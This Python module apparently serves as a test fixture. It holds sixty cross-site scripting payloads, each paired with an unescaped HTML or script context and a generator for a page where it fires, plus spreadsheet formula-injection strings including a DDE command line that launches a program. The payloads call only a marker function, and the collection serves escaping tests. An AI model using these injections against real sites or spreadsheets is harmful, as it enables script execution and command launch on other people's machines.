"""Sixty texts that would run as a program where a page is careless, each with the careless place that it is made for.

`PAYLOADS` gives each a number; one that runs calls `X(number)`. `careless(payload)` is a page that puts it in unescaped.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from urllib.parse import unquote

from jinja2 import Template

_BUILD = "<body><script>var p = PAYLOAD, b = document.body; {}</script>"


def _script(code: str) -> Callable[[str], str]:
    return lambda text: _BUILD.replace("PAYLOAD", json.dumps(text).replace("<", "\\u003c")).replace("{}", code)


def _around(page: str) -> Callable[[str], str]:
    return lambda text: page.replace("PAYLOAD", text)


# A careless place: from the text to the page it ends up in.
PLACES: Mapping[str, Callable[[str], str]] = {
    "page": _around("<body>PAYLOAD"),
    "inner": _script("b.innerHTML = p"),
    "twice": _script("b.innerHTML = p; b.innerHTML = b.innerHTML"),  # what was parsed is written out and parsed again
    "decoded": _script("b.innerHTML = p; b.innerHTML = b.textContent"),
    "unquoted url": lambda text: f"<body>{unquote(text)}",
    "folded": lambda text: f"<body>{unicodedata.normalize('NFKC', text)}",
    '"': _around('<body><input value="PAYLOAD">'),
    "'": _around("<body><input value='PAYLOAD'>"),
    "bare": _around("<body><input value=PAYLOAD>"),
    '" of an image': _around('<body><img src="PAYLOAD">'),
    "' of an image": _around("<body><img src='PAYLOAD'>"),
    "textarea": _around("<body><textarea>PAYLOAD</textarea>"),
    "title": _around("<title>PAYLOAD</title>"),
    "style": _around("<style>PAYLOAD</style>"),
    "comment": _around("<body><!-- PAYLOAD -->"),
    "data": _around('<body><script type="application/json">"PAYLOAD"</script>'),
    'script "': _around('<body><script>var a = "PAYLOAD"</script>'),
    "script '": _around("<body><script>var a = 'PAYLOAD'</script>"),
    "script `": _around("<body><script>var a = `PAYLOAD`</script>"),
    'script \\"': lambda text: f"<body><script>var a = \"{text.replace(chr(34), chr(92) + chr(34))}\"</script>",
    "script //": _around("<body><script>// PAYLOAD\n</script>"),
    "script /*": _around("<body><script>/* PAYLOAD */</script>"),
    "script html": _around('<body><script>document.body.innerHTML = "PAYLOAD"</script>'),
    "tooltip": _around("<body><script>var bindTooltip = text => text; bindTooltip(`<div>PAYLOAD</div>`)</script>"),  # as folium writes one
    "template": lambda text: f"<body>{Template(text).render()}",  # as folium renders what it is given once more
    "link": _around('<body><a href="PAYLOAD">a</a><script>document.querySelector("a").click()</script>'),
    "clicked": _around('<body>PAYLOAD<script>document.querySelector("a").click()</script>'),
    "frame": _around('<body><iframe src="PAYLOAD"></iframe>'),
    "animated": _around("<style>@keyframes fade{from{opacity:0}}</style><body>PAYLOAD"),
}

# (place, text); RUN is the call. Short ones are many, so that several fit into one value.
_TEXTS: Sequence[tuple[str, str]] = (
    ("inner", "<img src onerror=RUN>"), ("inner", "<IMG SRC=x OnErRoR=RUN>"), ("inner", "<img/src/onerror=RUN>"), ("inner", "<img src\nonerror=RUN>"), ("page", "<svg onload=RUN>"),
    ("inner", "<svg><svg onload=RUN>"), ("page", "<script>RUN</script>"), ("page", "<ScRiPt >RUN</sCrIpT >"), ("page", "<body onload=RUN>"), ("inner", "<iframe onload=RUN>"),
    ("inner", '<iframe srcdoc="<script>RUN</script>">'), ("inner", "<iframe src=javascript:RUN>"), ("inner", "<details open ontoggle=RUN>"), ("page", "<input autofocus onfocus=RUN>"),
    ("inner", "<video><source onerror=RUN>"), ("inner", "<audio src onerror=RUN>"), ("inner", "<style onload=RUN></style>"), ("inner", "<link rel=stylesheet href=data:, onload=RUN>"),
    ("page", "<svg><animate onbegin=RUN dur=1s>"), ("page", "<svg><script>RUN</script></svg>"), ("inner", "<math><mtext><img src onerror=RUN>"), ("inner", "<input type=image src=x: onerror=RUN>"),
    ("page", '<noscript><p title="</noscript><img src onerror=RUN>">'), ("twice", "<svg></p><style><a id='</style><img src onerror=RUN>'>"),
    ("twice", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>"), ("page", "<p><template shadowrootmode=open><img src onerror=RUN>"),
    ("textarea", "</textarea><img src onerror=RUN>"), ("title", "</title><img src onerror=RUN>"), ("style", "</style><img src onerror=RUN>"), ("comment", "--><img src onerror=RUN><!--"),
    ("data", "</script><script>RUN</script>"), ('script "', "</script><img src onerror=RUN>"),
    ('"', '"><img src onerror=RUN>'), ("'", "'><img src onerror=RUN>"), ('"', '" autofocus onfocus=RUN x="'), ("'", "' autofocus onfocus=RUN x='"), ("bare", "1 autofocus onfocus=RUN"),
    ('" of an image', 'x"onerror="RUN'), ("' of an image", "x'onerror='RUN"),
    ('script "', '"-RUN-"'), ("script '", "'-RUN-'"), ("script `", "`-RUN-`"), ("script `", "${RUN}"), ('script \\"', '\\"-RUN//'), ("script //", "a\u2028RUN"), ("script /*", "*/RUN/*"),
    ("script html", "\\u003cimg src onerror=RUN\\u003e"), ("script html", "\\x3cimg src onerror=RUN\\x3e"),
    ("decoded", "&lt;img src onerror=RUN&gt;"), ("decoded", "&#60;img src onerror=RUN&#62;"), ("unquoted url", "%3Cimg src onerror=RUN%3E"), ("folded", "\uff1cimg src onerror=RUN\uff1e"),
    ("link", "javascript:RUN"), ("link", "JaVa\nScRiPt:RUN"), ("link", "&#106;avascript:RUN"), ("clicked", "<a href=javascript:RUN>a</a>"), ("frame", "data:text/html,<script>RUN</script>"),
    ("animated", "<p style='animation:fade 1s' onanimationstart=RUN>"), ("template", "{{'\\x3cimg src onerror=RUN\\x3e'}}"), ("tooltip", "`);RUN;(`"),
)


@dataclass(frozen=True)
class Payload:
    number: int
    place: str
    text: str

    def careless(self) -> str:
        """A page on which it runs."""
        return PLACES[self.place](self.text)


PAYLOADS = tuple(Payload(number, place, text.replace("RUN", f"X({number})")) for number, (place, text) in enumerate(_TEXTS, 1))

# What a spreadsheet would compute, or ask another host for.
FORMULAS = ('=HYPERLINK("javascript:X(1)")', "+1+X(1)", "-1+X(1)", "@SUM(1)", "=1+1", "=cmd|' /C calc'!A0")


def packed(longest: int, start: int = 0, most: int = 8) -> list[str]:
    """Values of at most `longest` characters that together hold each payload that fits, begun at another one by `start`."""
    fitting = [one.text for one in PAYLOADS if len(one.text) <= longest]
    turned = fitting[start % len(fitting):] + fitting[:start % len(fitting)] if fitting else []
    values: list[list[str]] = []
    for text in turned:
        room = next((each for each in values if len(each) < most and sum(map(len, each)) + len(each) + len(text) <= longest), None)
        if room is None:
            values.append([text])
        else:
            room.append(text)
    return [" ".join(each) for each in values]
